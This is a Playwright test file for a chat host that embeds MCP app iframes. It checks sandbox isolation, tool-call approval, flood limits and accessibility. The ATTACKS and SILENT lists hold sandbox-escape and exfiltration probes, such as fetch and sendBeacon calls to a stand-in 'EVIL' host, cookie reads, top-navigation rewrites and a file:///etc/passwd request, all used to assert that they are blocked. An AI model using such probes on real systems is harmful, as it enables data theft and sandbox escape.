"""Apps of servers in the page of the host: a process, a server with apps, and Chromium."""

from __future__ import annotations

import json
import re
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Page, Route, expect

from tests.apps.host.page.test_chat import field, say
from tests.lab.host.process import HostProcess, host_process
from tests.lab.pages.axe import axe_source, findings
from tests.lab.pages.chromium import WatchedPage, shot, watched_page
from tests.lab.servers.process import PATIENCE, command

SERVER = Path(__file__).with_name("app_server.py")
NAMES = ("orders", "wide", "large", "wrong", "busy", "refund")
SCRIPT: list[dict[str, Any]] = [
    {"user": name, "answers": [[{"call": f"shop:{name}", "arguments": {"id": 7}}], ["Here."]]}
    for name in NAMES
]


@pytest.fixture(scope="module")
def ready(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostProcess]:
    """Run a host for the module."""
    folder = tmp_path_factory.mktemp("apps")
    entry = {"command": sys.executable, "args": [str(SERVER)], "trust": True}
    (folder / "mcp.json").write_text(json.dumps({"mcpServers": {"shop": entry}}))
    with host_process(folder, script=SCRIPT) as host:
        yield host


@pytest.fixture
def watched(browser: Browser, ready: HostProcess, options: dict[str, Any]) -> Iterator[WatchedPage]:
    """Open the page, with the tools there."""
    with watched_page(browser, ready.url, **options) as watched:
        watched.page.get_by_role("button", name="1 server, 8 tools").wait_for()
        yield watched


def app_of(page: Page, name: str = "orders") -> Frame:
    """Ask for a tool; return the frame of its app, which has the result."""
    say(page, name)
    frame = frame_in(page)
    expect(page.frame_locator("iframe").last.get_by_text("a book")).to_be_visible()
    return frame


def frame_in(page: Page) -> Frame:
    """Return the newest frame of an app."""
    element = page.locator("iframe").last.element_handle()
    assert element is not None
    frame = element.content_frame()
    assert frame is not None
    return frame


@pytest.fixture
def options() -> dict[str, Any]:
    """Return options of the browser's profile."""
    return {}


@pytest.mark.rule("HAPP-11", "HAPP-32", "HPAGE-90")
def test_app_gets_input_and_result_also_after_a_reload(watched: WatchedPage) -> None:
    page = watched.page
    app_of(page)
    for attempt in range(2):
        expect(page.frame_locator("iframe").get_by_text("a book")).to_be_visible()
        frame = frame_in(page)
        seen = frame.evaluate("seen.map(({ method, params }) => [method, params])")
        told = {method: params for method, params in seen if method}
        assert told["ui/notifications/tool-input"] == {"arguments": {"id": 7}}
        assert told["ui/notifications/tool-result"]["structuredContent"]["rows"][0]["id"] == 1
        shot(page, f"app-{attempt}")
        page.reload()


ATTACKS = {
    # what an app tries: what it gets
    "parent.document.title": "SecurityError",
    "parent.location.href": "SecurityError",
    "parent.localStorage.length": "SecurityError",
    "parent.sessionStorage": "SecurityError",
    "parent.eval": "SecurityError",
    "top.document.body.innerHTML = ''": "SecurityError",
    "top.location.href = 'http://EVIL/top'": "SecurityError",
    "top.location.replace('http://EVIL/top')": "SecurityError",
    "String(window.open('http://EVIL/window'))": "null",
    "String(window.open('', '_top'))": "null",
    "document.cookie": "SecurityError",
    "document.cookie = 'a=b'": "SecurityError",
    "localStorage.length": "SecurityError",
    "sessionStorage.length": "SecurityError",
    "indexedDB.open('a') && 'opened'": "SecurityError",
    "document.domain = '127.0.0.1'": "SecurityError",
    "fetch('/api/status')": "TypeError",
    "fetch('PAGE/api/status', { mode: 'no-cors' })": "TypeError",
    "fetch('http://EVIL/fetch', { mode: 'no-cors' })": "TypeError",
    "import('PAGE/app.js')": "TypeError",
    "load('script', { src: 'PAGE/app.js' })": "error",
    "load('script', { src: 'http://EVIL/script' })": "error",
    "load('img', { src: 'http://EVIL/picture' })": "error",
    "load('img', { src: 'PAGE/icon.svg' })": "error",
    "load('link', { rel: 'stylesheet', href: 'http://EVIL/style' })": "error",
    "listen(new WebSocket('ws://EVIL/socket'))": "error",
    "listen(new EventSource('http://EVIL/events'))": "error",
    "new Worker('PAGE/app.js')": "SecurityError",
    "worker(`fetch('http://EVIL/worker', { mode: 'no-cors' })`)": "refused",
    "nested('PAGE/')": "shut",
    "nested('http://EVIL/nested')": "shut",
    "nested('PAGE/app-frame?connect=https://a.example.com')": "shut",
    "String(alert(1))": "undefined",
    "String(prompt('password'))": "null",
    "document.featurePolicy.allowedFeatures().filter((name) => SHARP.has(name)).length": "0",
    "new Promise((_, no) => navigator.geolocation.getCurrentPosition(() => {}, no))": "denied",
    "navigator.clipboard.readText()": "NotAllowedError",
    "navigator.serviceWorker.register('PAGE/app.js')": "SecurityError",
}
HELP = """
window.named = (error) => error?.name ?? (error?.code === 1 ? "denied" : String(error));
window.SHARP = new Set([
  "camera", "microphone", "geolocation", "clipboard-read", "clipboard-write"]);
window.link = (rel) => document.head.append(
  Object.assign(document.createElement("link"), { rel, as: "image", href: `http://EVIL/${rel}` }));
window.rules = (rules) => document.head.append(Object.assign(document.createElement("script"),
  { type: "speculationrules", textContent: JSON.stringify(rules) }));
window.listen = (source) => new Promise((resolve) => (source.onerror = () => resolve("error")));
window.load = (tag, members) => new Promise((resolve) => {
  const node = Object.assign(document.createElement(tag), members);
  node.onload = () => resolve("loaded"); node.onerror = () => resolve("error");
  document.body.append(node); });
window.worker = (code) => new Promise((resolve) => {
  const text = `${code}.then(() => postMessage("sent"), () => postMessage("refused"))`;
  const made = new Worker(URL.createObjectURL(new Blob([text])));
  made.onmessage = ({ data }) => resolve(data); made.onerror = () => resolve("refused"); });
window.nested = (src) => new Promise((resolve) => {
  const node = Object.assign(document.createElement("iframe"), { src });
  const seen = () => { try { return node.contentDocument.title } catch { return "shut" } };
  node.onload = () => resolve(seen()); document.body.append(node);
  setTimeout(() => resolve(seen()), 2000); });
"""
SILENT = (
    "link('prefetch')",
    "link('preload')",
    "link('modulepreload')",
    "link('icon')",
    "link('manifest')",
    "navigator.sendBeacon('http://EVIL/beacon', 'x')",
    "document.body.style.background = 'url(http://EVIL/background)'",
    "void new FontFace('x', 'url(http://EVIL/font)').load().catch(() => {})",
    "load('video', { src: 'http://EVIL/video' })",
    "load('object', { data: 'http://EVIL/object' })",
    "rules({ prefetch: [{ source: 'list', urls: ['http://EVIL/rule'], eagerness: 'immediate' }] })",
)
"""Attempts that do not say what has come of them."""
LINK = """const link = document.createElement("a");
link.href = link.ping = address; document.body.append(link); link.click()"""
REFRESH = """const meta = document.createElement("meta");
meta.httpEquiv = "refresh"; meta.content = `0;url=${address}`; document.head.append(meta)"""
FORM = """const form = document.createElement("form");
form.action = address; form.method = "post"; document.body.append(form); form.submit()"""
TRY = (
    "async () => {{ try {{ return String(await ({0})) }} catch (error) {{ return named(error) }} }}"
)


@contextmanager
def somebody_else() -> Iterator[tuple[str, list[socket.socket]]]:
    """Listen on this machine; give the address, and the connections that have come."""
    heard: list[socket.socket] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def note() -> None:
            with suppress(OSError):
                while True:
                    client, _ = listener.accept()
                    client.setblocking(False)
                    heard.append(client)

        thread = threading.Thread(target=note, daemon=True)
        thread.start()
        yield f"127.0.0.1:{listener.getsockname()[1]}", heard
        listener.shutdown(socket.SHUT_RDWR)
    thread.join(PATIENCE)
    for client in heard:
        client.close()


def said(client: socket.socket) -> bytes:
    """Return what has come over a connection."""
    try:
        return client.recv(300)
    except BlockingIOError:
        return b""


@pytest.mark.rule("HAPP-01", "HAPP-02", "HAPP-04", "HAPP-36", "HPAGE-01")
def test_app_reaches_nothing_of_the_page_and_nobody_else(watched: WatchedPage) -> None:
    page, origin = watched.page, f"http://{watched.origin}"
    shown = page.url
    with somebody_else() as (evil, heard):
        frame = app_of(page)
        frame.evaluate(HELP.replace("EVIL", evil))
        for code in SILENT:
            frame.evaluate(f"() => {{ {code.replace('EVIL', evil)} }}")
        got = {
            code: frame.evaluate(TRY.format(code.replace("EVIL", evil).replace("PAGE", origin)))
            for code in ATTACKS
        }
        assert got == ATTACKS
        assert len(heard) <= 1  # Chromium connects for the nested frame
        for address, leave in (
            (f"http://{evil}/left", "location.href = address"),
            (f"{origin}/", "location.href = address"),
            (f"{origin}/api/status", "location.href = address"),
            (f"http://{evil}/form", FORM),
            (f"{origin}/api/login", FORM),
            (f"http://{evil}/link", LINK),
            (f"http://{evil}/refresh", REFRESH),
        ):
            frame.evaluate(f"(address) => {{ {leave} }}", address)
            page.get_by_role("button", name="Hide").click()
            page.get_by_role("button", name="Show the app").click()
            expect(page.frame_locator("iframe").get_by_text("a book")).to_be_visible()
            frame = frame_in(page)
        frame.evaluate("() => { location.href = '/app-frame?connect=https://a.example.com' }")
        expect(page.get_by_text("The app has left its document.")).to_be_visible()
        assert all(said(client) == b"" for client in heard)  # it connects, and sends nothing
    assert page.url == shown
    watched.problems.clear()  # what was refused is on the console


@pytest.mark.rule("HAPP-30")
def test_frame_in_an_app_is_not_heard(watched: WatchedPage) -> None:
    frame = app_of(watched.page)
    frame.evaluate(
        """() => new Promise((resolve) => {
          const node = document.createElement("iframe");
          node.onload = resolve;
          const message = { jsonrpc: "2.0", id: 90, method: "ui/message",
            params: { role: "user", content: [{ type: "text", text: "spoofed" }] } };
          node.srcdoc = `<script>top.postMessage(${JSON.stringify(message)}, "*")</scr` + `ipt>`;
          document.body.append(node); })"""
    )
    said = {"role": "user", "content": [{"type": "text", "text": "proposed"}]}
    assert frame.evaluate("(said) => ask('ui/message', said)", said)["result"] == {}
    expect(field(watched.page)).to_have_value("proposed")
    watched.problems.clear()


@pytest.mark.rule("HAPP-20", "HAPP-21", "HPAGE-91")
def test_call_of_an_app_is_approved_as_that_of_the_model(watched: WatchedPage) -> None:
    page = watched.page
    frame = app_of(page)
    counted = {"name": "count", "arguments": {"id": 1}}
    found = frame.evaluate("(params) => ask('tools/call', params)", counted)
    assert found["result"]["content"][0]["text"] == 'count {"id": 1}'  # reads, at a trusted server
    inside = page.frame_locator("iframe")
    inside.get_by_role("button", name="Refund 3").click()
    approval = page.get_by_role("group", name=re.compile("The app of orders asks. Run refund"))
    expect(approval).to_contain_text('"id": 3')
    shot(page, "app-approval")
    page.keyboard.press("Alt+a")
    page.get_by_role("button", name="Allow in this chat").click()
    expect(inside.locator("#said")).to_have_text('refund {"id": 3}')
    inside.get_by_role("button", name="Refund 3").click()
    expect(approval).to_have_count(0)


@pytest.mark.rule("HAPP-20", "HPAGE-91")
def test_tool_that_was_denied_is_not_asked_for_again(watched: WatchedPage) -> None:
    page = watched.page
    app_of(page)
    inside = page.frame_locator("iframe")
    inside.get_by_role("button", name="Refund 3").click()
    page.get_by_role("button", name="Deny").click()
    expect(inside.locator("#said")).to_have_text("The user refused this call.")
    inside.get_by_role("button", name="Refund 3").click()
    expect(inside.locator("#said")).to_have_text("The user refused this tool.")
    expect(page.get_by_role("button", name="Deny")).to_have_count(0)


@pytest.mark.rule("HAPP-37")
def test_click_for_an_app_decides_nothing(watched: WatchedPage) -> None:
    page = watched.page
    frame = app_of(page)
    page.evaluate(
        """() => {
          const asks = document.querySelector(".ui-app-asks");
          new MutationObserver(() => (window.inertAtFirst ??= asks.firstElementChild.inert))
            .observe(asks, { childList: true }); }"""
    )
    page.frame_locator("iframe").get_by_role("button", name="Refund 3").click()
    approval = page.get_by_role("group", name=re.compile("The app of orders asks."))
    approval.wait_for()
    assert page.evaluate("inertAtFirst") is True
    low = "() => post({ method: 'ui/notifications/size-changed', params: { height: 9 } })"
    frame.evaluate(low)
    frame.evaluate("() => ask('ping', {})")
    expect(page.locator("iframe")).not_to_have_attribute("style", "height: 40px;")
    approval.get_by_role("button", name="Deny").click()
    expect(page.frame_locator("iframe").locator("#said")).to_contain_text("refused")
    frame.evaluate(low)
    expect(page.locator("iframe")).to_have_attribute("style", "height: 40px;")


def refund(frame: Frame, *ids: int) -> None:
    """Let an app ask for calls, all at once."""
    call = "void ask('tools/call', { name: 'refund', arguments: { id } })"
    frame.evaluate(f"(ids) => {{ for (const id of ids) {call} }}", ids)


@pytest.mark.rule("HAPP-37", "HPAGE-14")
def test_click_or_key_decides_one_question(watched: WatchedPage) -> None:
    page = watched.page
    frame = app_of(page)
    refund(frame, 1, 2, 4)
    ask = page.get_by_role("group", name=re.compile("The app of orders asks."))
    ask.get_by_role("button", name="Allow once").click()
    expect(ask).to_contain_text('"id": 2')
    for _ in range(12):  # people who go on clicking longer than the first time
        page.mouse.down()
        page.mouse.up()
        page.wait_for_timeout(100)
    expect(ask).to_contain_text('"id": 2')
    expect(ask).not_to_have_attribute("inert", "")
    page.keyboard.press("Alt+a")
    page.keyboard.down("1")
    expect(ask).to_contain_text('"id": 4')
    expect(field(page)).to_be_focused()
    expect(ask).not_to_have_attribute("inert", "")
    ask.focus()
    page.keyboard.down("1")  # held, it repeats
    page.keyboard.up("1")
    page.keyboard.press("4")
    expect(ask).to_have_count(0)
    answers = "() => seen.filter(({ error }) => error).map(({ error }) => error.message)"
    frame.wait_for_function(f"({answers})().length > 0")
    assert frame.evaluate(answers) == ["The user refused this call."]


@pytest.mark.rule("HAPP-37")
def test_app_that_ends_moves_no_question(watched: WatchedPage) -> None:
    page = watched.page
    above = app_of(page)
    say(page, "orders")
    expect(page.locator("iframe")).to_have_count(2)
    expect(page.frame_locator("iframe").last.get_by_text("a book")).to_be_visible()
    refund(frame_in(page), 1)
    deny = page.get_by_role("button", name="Deny")
    deny.wait_for()
    # The transcript follows what is new in a later frame; the question takes no click till then.
    expect(page.get_by_role("group", name="The app of orders asks.")).not_to_have_attribute(
        "inert", ""
    )
    place = "() => document.querySelector('.approval').getBoundingClientRect().top"
    before = page.evaluate(place)
    above.evaluate("() => post({ method: 'ui/notifications/request-teardown' })")
    expect(page.locator("iframe")).to_have_count(1)
    assert page.evaluate(place) == before
    deny.click()
    expect(page.locator(".ui-app-body").first).to_have_attribute("style", "")


@pytest.mark.rule("HAPP-32")
def test_app_that_was_closed_asks_for_nothing(watched: WatchedPage) -> None:
    page = watched.page
    frame = app_of(page)
    frame.evaluate(
        """() => addEventListener("message", ({ data }) => {
          if (data.method !== "ui/resource-teardown") return;
          const content = [{ type: "text", text: "bought" }];
          void ask("ui/open-link", { url: "https://a.example" });
          void ask("ui/message", { role: "user", content });
          void ask("tools/call", { name: "refund", arguments: {} }); })"""
    )
    calls, held = re.compile(r"/app$"), list[Route]()
    page.route(calls, lambda route: held.append(route))
    with page.expect_request(calls):
        refund(frame, 1)
    page.get_by_role("button", name="Hide").click()
    expect(page.locator("iframe")).to_have_count(0)
    with page.expect_response(calls) as due:
        held[0].continue_()
    assert "approval" in due.value.json()
    assert len(held) == 1
    page.evaluate("() => new Promise((resolve) => setTimeout(resolve))")
    expect(page.locator(".ui-app-asks > *")).to_have_count(0)
    expect(field(page)).to_have_value("")


@pytest.mark.rule("HAPP-20", "HAPP-22", "HAPP-33", "HAPP-34")
def test_what_an_app_may_not_ask_for_is_refused_with_the_reason(watched: WatchedPage) -> None:
    frame = app_of(watched.page)
    for method, params, said in (
        ("tools/call", {"name": "secret"}, "not for apps"),
        ("tools/call", {"name": "nothing"}, "has no tool"),
        ("tools/call", {"name": "count", "arguments": {"id": "x"}}, "Invalid arguments"),
        ("tools/call", {"name": "count", "arguments": [1]}, "expected an object"),
        ("tools/call", {}, "expected a text"),
        ("resources/read", {"uri": "file:///etc/passwd"}, "did not give"),
        ("resources/read", {}, "expected a text"),
        ("ui/open-link", {"url": "http://example.com"}, "https"),
        ("ui/open-link", {"url": "javascript:alert(1)"}, "https"),
        ("ui/open-link", {"url": "https://you@example.com"}, "https"),
        ("ui/message", {"role": "assistant", "content": [{"type": "text", "text": "x"}]}, "user"),
        ("ui/message", {"role": "user", "content": [{"type": "image"}]}, "type text"),
        ("ui/update-model-context", {"structuredContent": {"x": "y" * 40_000}}, "at most"),
        ("sampling/createMessage", {}, "no such method"),
        ("constructor", {}, "no such method"),
    ):
        found = frame.evaluate("([method, params]) => ask(method, params)", [method, params])
        assert said in found["error"]["message"], (method, found)
    asked = "ask('ui/open-link', { url: 'https://a.example' })"
    frame.evaluate(f"() => {{ for (let at = 0; at < 20; at += 1) void {asked} }}")
    shot(watched.page, "app-link")
    watched.page.get_by_role("button", name="Do not open").click()
    expect(watched.page.get_by_role("link", name="Open a.example")).to_have_count(1)


@pytest.mark.rule("HAPP-31")
@pytest.mark.parametrize(
    ("flood", "reason"),
    [
        ("for (;;) post({ method: 'notifications/message', params: {} })", "too many messages"),
        ("post({ method: 'x', params: { x: 'x'.repeat(3_000_000) } })", "too large"),
        ("post({ method: 'x', params: { x: new ArrayBuffer(10) } })", "no JSON"),
        ("const a = []; a[0] = a; post({ method: 'x', params: { a } })", "no JSON"),
        (
            "const x = 'x'.repeat(1_900_000);"
            " for (let at = 0; at < 6; at += 1) post({ method: 'x', params: { x } })",
            "too much at once",
        ),
    ],
)
def test_app_that_floods_is_ended(watched: WatchedPage, flood: str, reason: str) -> None:
    page = watched.page
    frame = app_of(page)
    flood = flood.replace("for (;;)", "for (let at = 0; at < 5000; at += 1)")
    frame.evaluate(f"() => {{ {flood} }}")
    expect(page.get_by_role("status").filter(has_text=reason)).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)
    field(page).fill("the page goes on")


@pytest.mark.rule("HAPP-12")
@pytest.mark.parametrize(("name", "said"), [("large", "which is 16 MiB"), ("wrong", "type")])
def test_app_that_cannot_be_shown_says_why(watched: WatchedPage, name: str, said: str) -> None:
    page = watched.page
    say(page, name)
    expect(page.get_by_text("The app is not shown.")).to_contain_text(said)
    expect(page.locator(".assistant p")).to_have_text("Here.")


@pytest.mark.rule("HAPP-03")
def test_app_has_the_origins_that_it_may_have(watched: WatchedPage) -> None:
    frame = app_of(watched.page, "wide")
    policy = frame.evaluate(
        """() => new Promise((resolve) => {
          addEventListener("securitypolicyviolation", (event) => resolve(event.originalPolicy));
          document.body.append(Object.assign(new Image(), { src: "http://a.example/x" })); })"""
    )
    parts = dict(each.strip().partition(" ")[::2] for each in policy.split(";"))
    assert parts["connect-src"] == "wss://feed.example.com https://api.example.com:8443"
    assert parts["script-src"] == "'unsafe-inline' https://*.example.com"
    assert parts["frame-src"] == "'none'"
    watched.problems.clear()


@pytest.mark.rule("HAPP-35", "HPAGE-92")
def test_app_knows_theme_and_size_and_informs_the_model(watched: WatchedPage) -> None:
    page = watched.page
    frame = app_of(page)
    context = frame.evaluate("opened.hostContext")
    assert context["theme"] == "light"
    assert context["containerDimensions"]["maxHeight"] == 800
    assert context["toolInfo"]["tool"]["name"] == "orders"
    page.get_by_label("Dark").check(force=True)
    wait = "() => seen.some(({ params }) => params?.theme === 'dark')"
    frame.wait_for_function(wait)
    shot(page, "app-dark")
    frame.evaluate("() => ask('ui/update-model-context', { structuredContent: { chosen: 3 } })")
    frame.evaluate("() => ask('ui/update-model-context', { structuredContent: { chosen: 4 } })")
    expect(page.get_by_label("Attachments")).to_have_text(
        re.compile(r"^context of orders.txt17 bytes$")
    )
    frame.evaluate("() => ask('ui/update-model-context', {})")
    expect(page.get_by_label("Attachments").get_by_role("listitem")).to_have_count(0)


@pytest.mark.rule("HAPP-10", "HPAGE-18", "HPAGE-19")
def test_tools_for_apps_are_named_as_such_and_are_no_examples(watched: WatchedPage) -> None:
    page = watched.page
    expect(page.locator(".example")).to_have_count(4)
    assert "refund" not in page.locator(".examples").inner_text()
    page.get_by_role("button", name="1 server, 8 tools").click()
    page.locator("summary", has_text="8 tools").click()
    entry = page.get_by_role("listitem").filter(has=page.locator("code", has_text="refund"))
    expect(entry).to_contain_text("For apps alone.")


PHONE = {"width": 360, "height": 720}


@pytest.mark.rule("HPAGE-26", "HPAGE-28")
@pytest.mark.parametrize("options", [{"viewport": PHONE, "color_scheme": "dark"}, {}])
def test_app_fits_a_phone_and_everybody(watched: WatchedPage) -> None:
    page = watched.page
    app_of(page)
    page.frame_locator("iframe").get_by_role("button", name="Refund 3").click()
    page.get_by_role("button", name="Allow once").wait_for()
    width = page.evaluate("innerWidth")
    assert page.evaluate("document.documentElement.scrollWidth") == width
    assert findings(page, axe_source()) == []
    shot(page, f"app-{width}")


@pytest.mark.rule("HAPP-05")
def test_app_that_never_rests_does_not_hold_the_page(watched: WatchedPage) -> None:
    page = watched.page
    say(page, "busy")
    expect(page.locator("iframe")).to_have_count(1)
    expect(page.locator(".assistant p")).to_have_text("Here.")
    page.get_by_role("button", name="Hide").click()
    expect(page.locator("iframe")).to_have_count(0)


@pytest.mark.rule("HAPP-10", "HAPP-20", "APP-08")
def test_example_of_orders_is_sorted_and_refunded_from(browser: Browser, tmp_path: Path) -> None:
    answers = [[{"call": "shop:list_orders"}], ["Here are the orders."]]
    script = [{"user": "Show the orders", "answers": answers}]
    program, *words = command("serve", "foundation_rt.examples.orders:server")
    entry = {"command": program, "args": words, "alwaysAllow": ["list_orders"]}
    (tmp_path / "mcp.json").write_text(json.dumps({"mcpServers": {"shop": entry}}))
    with (
        host_process(tmp_path, script=script) as host,
        watched_page(browser, host.url, viewport={"width": 1000, "height": 640}) as watched,
    ):
        page = watched.page
        page.get_by_role("button", name="1 server, 3 tools").wait_for()
        say(page, "Show the orders")
        app = page.frame_locator("iframe")
        app.get_by_role("button", name="Total").click()
        expect(app.locator("td:nth-child(3)")).to_have_text(["0.70", "9.90", "42.00"])
        app.get_by_role("button", name="Refund").first.click()
        page.get_by_role("button", name="Allow once").click()
        expect(app.locator("tr", has_text="Ben")).to_contain_text("refunded")
        shot(page, "app-orders")
